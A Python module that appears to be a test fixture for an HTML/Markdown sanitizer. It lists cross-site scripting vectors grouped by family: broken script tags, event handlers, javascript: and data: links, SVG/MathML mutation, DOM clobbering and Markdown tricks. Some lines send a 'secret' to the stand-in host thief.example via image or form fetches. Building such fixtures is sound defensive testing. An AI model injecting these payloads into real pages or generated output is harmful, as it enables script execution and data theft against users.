"""Texts that try to run script, fetch something or upset the page, in the ways that are known.

Written anew along the families that filter-evasion collections list: plain and broken tags, event
handlers, addresses, embedded documents, SVG and MathML, DOM clobbering, mutation of the markup when
it is read again, and what is peculiar to Markdown.
"""

from __future__ import annotations

RUN = "window.pwned=1;alert(1)"
HOST = "https://thief.example"

_TAGS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={HOST}/x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\n>{RUN}</script\n>",
    f"<script/src='{HOST}/x.js'></script>",
    f'"><script>{RUN}</script>',
    f"</textarea></title></style></script><script>{RUN}</script>",
    f"<<SCRIPT>{RUN}//<</SCRIPT>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><script>{RUN}</script></template>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"\0<scr\0ipt>{RUN}</scr\0ipt>",
]
_HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src='x'onerror='{RUN}'>",
    f"<img/src/onerror={RUN}>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<IMG SRC=x OnErRoR='{RUN}'>",
    f"<body onload={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<b onmouseover={RUN}>over</b>",
    f"<p style='animation:rise 1s' onanimationstart={RUN}>x</p>",
    f"<a href=# onclick={RUN}>x</a>",
    f"<div contenteditable onbeforeinput={RUN}>x</div>",
    "<img src=x:x onerror=&#119;&#105;ndow.pwned=1>",
]
_ADDRESSES = [
    f"<a href='javascript:{RUN}'>x</a>",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](vbscript:{RUN})",
    "[x](file:///etc/passwd)",
    f"[x](blob:{HOST}/1)",
    f"[x](view-source:{HOST}/)",
    f"<javascript:{RUN}>",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    f'[x](https://e.org/ "onmouseover={RUN}")',
    f'[x](https://e.org/"onmouseover="{RUN})',
    f"![x](javascript:{RUN})",
    f'![x]({HOST}/p.png "a" onload={RUN})',
    f'![a"onerror="{RUN}]({HOST}/p.png)',
]
_FETCHES = [
    f"![a picture]({HOST}/p.png?q=secret)",
    f"![a][pic]\n\n[pic]: {HOST}/p.png",
    f"<img src={HOST}/p.png>",
    f"<img srcset='{HOST}/p.png 1x'>",
    f"<picture><source srcset={HOST}/p.png><img></picture>",
    f"<iframe src={HOST}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data={HOST}/x.swf></object>",
    f"<embed src={HOST}/x.swf>",
    f"<link rel=stylesheet href={HOST}/x.css>",
    f"<link rel=prefetch href={HOST}/x>",
    f"<style>@import '{HOST}/x.css'; body {{ background: url({HOST}/b.png) }}</style>",
    f"<p style='background:url({HOST}/b.png)'>x</p>",
    f"<table background={HOST}/b.png><td background={HOST}/c.png>x</table>",
    f"<video src={HOST}/v.mp4 poster={HOST}/p.png autoplay></video>",
    f"<base href={HOST}/><a href=x>x</a>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<form action={HOST}><input name=q value=secret><button>Go</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<isindex action={HOST}>",
    f"<a href={HOST} ping={HOST}/ping>x</a>",
    f"<body background={HOST}/b.png>",
    f"<svg><image href={HOST}/p.png /></svg>",
    f"<svg><use href={HOST}/x.svg#a /></svg>",
]
_FOREIGN = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><set attributeName=href to=javascript:{RUN}><a>x</a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    f"<img onerror={RUN} src>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
]
_CLOBBERING = [
    "<form id=input></form><a id=composer></a><img name=forms>",
    "<a id=send name=send href=x>x</a><input name=body>",
    "<form name=document><input name=cookie></form>",
    "<p id=announcer class=visually-hidden data-testid=alert role=alert>x</p>",
    "<dialog open data-close>x</dialog><button data-action=again>x</button>",
]
_MARKDOWN = [
    f"```<img src=x onerror={RUN}>\ncode\n```",
    f"```html\n</code></pre><script>{RUN}</script>\n```",
    f'```js"onmouseover="{RUN}\nlet a;\n```',
    f"`<img src=x onerror={RUN}>`",
    f"| <img src=x onerror={RUN}> |\n|---|\n| <script>{RUN}</script> |",
    f"- <img src=x onerror={RUN}>\n  - <svg onload={RUN}>",
    f"> <img src=x onerror={RUN}>",
    f"# <img src=x onerror={RUN}>",
    f"<think><img src=x onerror={RUN}></think><svg onload={RUN}>",
    f"$$<img src=x onerror={RUN}>$$ and \\(<svg onload={RUN}>\\)",
    f"\\[\n<img src=x onerror={RUN}>\n\\]",
    f"[<img src=x onerror={RUN}>](https://e.org)",
    f"**<img src=x onerror={RUN}",
    f"Attached file: <img src=x onerror={RUN}>\n\n"
    f"```<svg onload={RUN}>\n<script>{RUN}</script>\n```",
    f"[^1]: <img src=x onerror={RUN}>\n\n[^1]",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
]
VECTORS = [*_TAGS, *_HANDLERS, *_ADDRESSES, *_FETCHES, *_FOREIGN, *_CLOBBERING, *_MARKDOWN]
